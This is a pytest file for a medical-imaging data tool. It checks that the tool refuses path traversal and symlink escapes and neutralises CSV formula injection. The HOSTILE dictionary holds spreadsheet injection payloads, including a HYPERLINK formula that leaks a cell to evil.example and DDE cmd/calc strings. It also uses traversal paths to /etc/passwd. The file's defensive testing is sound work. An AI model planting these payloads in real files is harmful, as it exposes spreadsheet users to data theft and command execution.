"""Hostile inputs to the data layer: paths that leave their folder, special files,
spreadsheet formulas in CSV outputs, duplicate header columns, header values that can
never be valid (``manifest build`` and ``manifest check`` must agree)."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
import threading
import warnings
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pydicom
import pytest

from validation.data.manifest import build_manifest, load_manifest
from validation.data.synthetic import generate_synthetic_dataset
from validation.errors import InputError, ManifestError, ReadingsError
from validation.io import path_escape_reason, resolve_inside
from validation.tables import neutralise, restore, restore_frame, write_csv


@pytest.fixture(scope="module")
def dicoms(tmp_path_factory: pytest.TempPathFactory) -> Path:
    synth = generate_synthetic_dataset(
        tmp_path_factory.mktemp("safety"), n_cases=4, seed=3, image_size=32
    )
    return synth.root


def _images(dicoms: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "dicom"
    shutil.copytree(dicoms / "images", folder)
    return folder


# ------------------------------------------------------------------ one rule for user paths


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("/etc/passwd", "expected a path relative to F, found absolute path '/etc/passwd'"),
        ("C:\\x.dcm", "expected a path relative to F, found absolute path 'C:\\x.dcm'"),
        ("C:x.dcm", "expected a path relative to F, found absolute path 'C:x.dcm'"),
        (
            "\\\\server\\share\\x.dcm",
            "expected a path relative to F, found absolute path '\\\\server\\share\\x.dcm'",
        ),
        ("a/../../x.dcm", "expected a path inside F, found 'a/../../x.dcm' (it uses '..')"),
        ("a\\..\\..\\x.dcm", "expected a path inside F, found 'a\\..\\..\\x.dcm' (it uses '..')"),
        ("a\x00.dcm", "expected a path inside F, found 'a\\x00.dcm' (it contains a NUL character)"),
    ],
)
def test_path_escape_reason(tmp_path: Path, value: str, reason: str) -> None:
    assert path_escape_reason(tmp_path, value, folder="F") == reason


def test_symbolic_links_are_judged_by_where_they_lead(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "in.dcm").write_bytes(b"x")
    (tmp_path / "secret.txt").write_text("outside")
    os.symlink(root / "sub" / "in.dcm", root / "inside.dcm")
    os.symlink(tmp_path / "secret.txt", root / "out.dcm")
    os.symlink(tmp_path, root / "up")
    os.symlink(root / "loop", root / "loop")
    assert path_escape_reason(root, "inside.dcm") is None
    assert path_escape_reason(root, "sub/in.dcm") is None
    assert path_escape_reason(root, "out.dcm") == (
        "expected a path inside the table's folder, found 'out.dcm' (a symbolic link leads "
        "outside it)"
    )
    assert path_escape_reason(root, "up/secret.txt") == (
        "expected a path inside the table's folder, found 'up/secret.txt' (a symbolic link "
        "leads outside it)"
    )
    loop = path_escape_reason(root, "loop/x.dcm")
    assert loop is not None and loop.startswith(
        "expected a path inside the table's folder, found 'loop/x.dcm' ("
    )
    assert resolve_inside(root, "inside.dcm", where="t.csv: row 2") == root / "inside.dcm"
    with pytest.raises(InputError) as info:
        resolve_inside(
            root,
            "out.dcm",
            where="t.csv: row 3, column 'mask_path'",
            folder="the predictions table's folder",
        )
    assert str(info.value) == (
        "t.csv: row 3, column 'mask_path': expected a path inside the predictions table's "
        "folder, found 'out.dcm' (a symbolic link leads outside it)"
    )


# ------------------------------------------------------------------ manifest build walks


def test_build_refuses_a_symlink_out_of_the_dicom_folder(dicoms: Path, tmp_path: Path) -> None:
    folder = _images(dicoms, tmp_path)
    outside = tmp_path / "elsewhere.dcm"
    shutil.copy(next(folder.glob("*.dcm")), outside)
    os.symlink(outside, folder / "zz_link.dcm")
    with pytest.raises(ManifestError) as info:
        build_manifest(folder, salt="s")
    assert str(info.value) == (
        f"{folder / 'zz_link.dcm'}: a symbolic link that leads outside {folder} (to {outside}); "
        "refused: a manifest may only name files inside its folder (remove the link or copy "
        "the file in)"
    )


def test_build_refuses_a_linked_folder_outside(dicoms: Path, tmp_path: Path) -> None:
    folder = _images(dicoms, tmp_path)
    (tmp_path / "other").mkdir()
    os.symlink(tmp_path / "other", folder / "linked")
    os.symlink(tmp_path / "other", folder / "linked2")
    with pytest.raises(
        ManifestError,
        match=r"linked: a symbolic link that leads outside .* "
        r"\(and 1 more\); refused",
    ):
        build_manifest(folder, salt="s")


def test_build_keeps_links_that_stay_inside(dicoms: Path, tmp_path: Path) -> None:
    folder = _images(dicoms, tmp_path)
    first = sorted(folder.glob("*.dcm"))[0]
    (folder / "alias").mkdir()
    os.symlink(first, folder / "alias" / "again.dcm")
    built = build_manifest(folder, salt="s")
    assert "alias/again.dcm" in list(built["path"])


def test_build_never_opens_a_fifo(dicoms: Path, tmp_path: Path) -> None:
    folder = _images(dicoms, tmp_path)
    os.mkfifo(folder / "pipe.dcm")
    seen: list[tuple[str, str]] = []
    result: list[object] = []
    worker = threading.Thread(
        target=lambda: result.append(
            build_manifest(folder, salt="s", on_skip=lambda rel, why: seen.append((rel, why)))
        ),
        daemon=True,
    )
    worker.start()
    worker.join(60)
    if worker.is_alive():  # unblock the reader so the test process can end
        fd = os.open(folder / "pipe.dcm", os.O_WRONLY | os.O_NONBLOCK)
        os.close(fd)
        pytest.fail("manifest build blocked on a FIFO")
    assert ("pipe.dcm", "not a regular file (a FIFO, socket or device)") in seen
    assert len(result) == 1


# ------------------------------------------------------------------ CSV formula injection


def _radval(*args: str | Path, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "RADVAL_PSEUDONYM_SALT"}
    return subprocess.run(
        [sys.executable, "-m", "validation", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=180,
        env=env,
        cwd=cwd,
    )


HOSTILE = {
    "InstitutionName": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Manufacturer": "+cmd|' /C calc'!A0",
    "ManufacturerModelName": "@SUM(1+1)*cmd|' /C calc'!A0",
    "BodyPartExamined": "-2+3",
}


def _hostile_folder(dicoms: Path, tmp_path: Path) -> Path:
    folder = _images(dicoms, tmp_path)
    for file in sorted(folder.glob("*.dcm"))[:2]:
        ds = pydicom.dcmread(file)
        with warnings.catch_warnings():  # pydicom warns that '-2+3' is not a valid CS value
            warnings.simplefilter("ignore", UserWarning)
            for keyword, value in HOSTILE.items():
                setattr(ds, keyword, value)
        ds.PatientAge = "999Y"
        ds.save_as(file)
    return folder


def test_build_neutralises_formulas_and_check_reads_them_back(dicoms: Path, tmp_path: Path) -> None:
    folder = _hostile_folder(dicoms, tmp_path)
    out = folder / "manifest.csv"
    result = _radval("manifest", "build", folder, "--out", out, "--salt", "s")
    assert result.returncode == 0, result.stderr
    lines = result.stderr.splitlines()
    first, second = sorted(folder.glob("*.dcm"))[:2]
    assert lines == [
        f"radval: warning: {first.name}: kept, but its Patient Age (999 years) is not a "
        "possible age (0 to 150): age left blank",
        f"radval: warning: {second.name}: kept, but its Patient Age (999 years) is not a "
        "possible age (0 to 150): age left blank",
        f"radval: warning: {out}: 8 text cell(s) started with =, +, -, @, tab or CR and were "
        "written with a leading ' so that a spreadsheet shows them as text (CSV-injection "
        "guard; radval reads them back unchanged): 'site' (2), 'manufacturer' (2), "
        "'manufacturer_model' (2), 'body_part' (2)",
    ]
    rows = list(csv.DictReader(out.open(newline="")))
    for row in rows[:2]:  # as a spreadsheet would see the cells: text, never a formula
        assert row["site"] == "'" + HOSTILE["InstitutionName"]
        assert row["manufacturer"] == "'" + HOSTILE["Manufacturer"]
        assert row["body_part"] == "'-2+3"
        assert row["age"] == ""  # the impossible age is not written
    for row in rows:
        assert not row["site"].startswith(("=", "+", "-", "@"))
    check = _radval("manifest", "check", out, "--verify-hashes")
    assert check.returncode == 0, check.stderr
    loaded = load_manifest(out, label_columns=(), require_labels=False)
    assert list(loaded.frame["site"][:2]) == [HOSTILE["InstitutionName"]] * 2
    assert list(loaded.frame["manufacturer_model"][:2]) == [HOSTILE["ManufacturerModelName"]] * 2
    assert loaded.frame["age"][:2].isna().all() and loaded.frame["age"][2:].notna().all()


def test_numbers_are_never_neutralised_and_reading_back_is_exact(tmp_path: Path) -> None:
    values = [
        "=1+1",
        "'=1+1",
        "''@x",
        "-12",
        "+3.5",
        "-1e-3",
        "-",
        "'abc",
        "\tx",
        "\rx",
        "plain",
        "a=b",
        "a\rb",
        "c\r\nd",
        'q"r',
        "x,y",
    ]
    frame = pd.DataFrame(
        {
            "case_id": [f"c{i}" for i in range(len(values))],
            "note": values,
            "delta": [-1.5] * len(values),
            "=col": ["x"] * len(values),
        }
    )
    out = tmp_path / "t.csv"
    report = write_csv(frame, out)
    assert report.neutralised == {"<header>": 1, "note": 6}
    raw = list(csv.reader(out.open(newline="")))
    assert raw[0] == ["case_id", "note", "delta", "'=col"]
    assert [r[1] for r in raw[1:]] == [
        "'=1+1",
        "''=1+1",
        "'''@x",
        "-12",
        "+3.5",
        "-1e-3",
        "'-",
        "'abc",
        "'\tx",
        "'\rx",
        "plain",
        "a=b",
        "a\rb",
        "c\r\nd",
        'q"r',
        "x,y",
    ]
    assert [r[2] for r in raw[1:]] == ["-1.5"] * len(values)
    back = restore_frame(pd.read_csv(out, dtype=str, keep_default_na=False))
    assert list(back.columns) == ["case_id", "note", "delta", "=col"]
    assert list(back["note"]) == values
    assert [neutralise(v) for v in values] == [r[1] for r in raw[1:]]
    assert [restore(neutralise(v)) for v in values] == values


def test_inference_failures_csv_is_neutralised_and_read_back(tmp_path: Path) -> None:
    from validation.study.inputs import inference_failures
    from validation.tables import write_csv_rows

    side = tmp_path / "s.failures.csv"
    write_csv_rows(("case_id", "row", "error"), [("=cmd", 2, "@boom"), ("c2", 3, "ok")], side)
    assert side.read_text().splitlines()[1] == "'=cmd,2,'@boom"
    assert inference_failures(tmp_path / "s.parquet", {}) == {"=cmd": "@boom", "c2": "ok"}


# ------------------------------------------------------------------ duplicate header columns


def test_duplicate_columns_are_refused_in_every_table(tmp_path: Path) -> None:
    from validation.data.readings import load_froc_readings, load_readings
    from validation.study.inputs import read_scores

    (tmp_path / "img").mkdir()
    manifest = tmp_path / "m.csv"
    manifest.write_text("case_id,patient_id,path,label,label\nc1,p1,img/a.dcm,1,0\n")
    with pytest.raises(ManifestError) as info:
        load_manifest(manifest)
    assert str(info.value) == f"{manifest}: column 'label' appears more than once in the header"
    spaced = tmp_path / "m2.csv"
    spaced.write_text("case_id,patient_id,path, path\nc1,p1,a,b\n")
    with pytest.raises(ManifestError, match="column 'path' appears more than once"):
        load_manifest(spaced, label_columns=())

    scores = tmp_path / "s.csv"
    scores.write_text("case_id,score,score\nc1,0.2,0.9\n")
    with pytest.raises(InputError) as info:
        read_scores(scores)
    assert str(info.value) == f"{scores}: column 'score' appears more than once in the header"
    table = pa.table(
        [pa.array(["c1"]), pa.array([0.1]), pa.array([0.2])], names=["case_id", "score", "score"]
    )
    pq.write_table(table, tmp_path / "s.parquet")
    with pytest.raises(InputError) as info:
        read_scores(tmp_path / "s.parquet")
    assert str(info.value) == (
        f"{tmp_path / 's.parquet'}: column 'score' appears more than once in the header"
    )

    readings = tmp_path / "r.csv"
    readings.write_text("reader,modality,case,truth,score,score\nR1,A,c1,1,0.5,0.7\n")
    with pytest.raises(ReadingsError) as info:
        load_readings(readings)
    assert str(info.value) == f"{readings}: column 'score' appears more than once in the header"

    marks = tmp_path / "f.csv"
    marks.write_text("reader,modality,case,truth,score,lesion\nR1,A,c1,1,0.5,1\n")
    (tmp_path / "f_truth.csv").write_text("case,truth,lesion,lesion,weight\nc1,1,1,1,1\n")
    with pytest.raises(ReadingsError) as info:
        load_froc_readings(marks)
    assert str(info.value) == (
        f"{tmp_path / 'f_truth.csv'}: column 'lesion' appears more than once in the header"
    )


# ------------------------------------------------------------------ build and check agree


def test_build_refuses_labels_that_check_would_reject(dicoms: Path, tmp_path: Path) -> None:
    folder = _images(dicoms, tmp_path)
    first = sorted(folder.glob("*.dcm"))[0].stem
    labels = tmp_path / "labels.csv"
    labels.write_text(f"case_id,label\n{first},yes\n")
    with pytest.raises(ManifestError) as info:
        build_manifest(folder, labels_path=labels, salt="s")
    assert str(info.value) == (
        f"manifest built from {folder}: row 2 (case_id '{first}'), column 'label': expected 0 "
        f"or 1, found 'yes'; the values come from {labels}; nothing written"
    )
    labels.write_text(f"case_id,mask_path\n{first},../../etc/passwd\n")
    with pytest.raises(
        ManifestError,
        match=r"column 'mask_path': expected a path inside the "
        r"manifest's folder, found '\.\./\.\./etc/passwd' "
        r"\(it uses '\.\.'\)",
    ):
        build_manifest(folder, labels_path=labels, salt="s")


def test_labels_file_duplicate_columns_are_refused(dicoms: Path, tmp_path: Path) -> None:
    folder = _images(dicoms, tmp_path)
    labels = tmp_path / "labels.csv"
    labels.write_text("case_id,label,label\nT00001,1,0\n")
    with pytest.raises(ManifestError) as info:
        build_manifest(folder, labels_path=labels, salt="s")
    assert str(info.value) == f"{labels}: column 'label' appears more than once in the header"
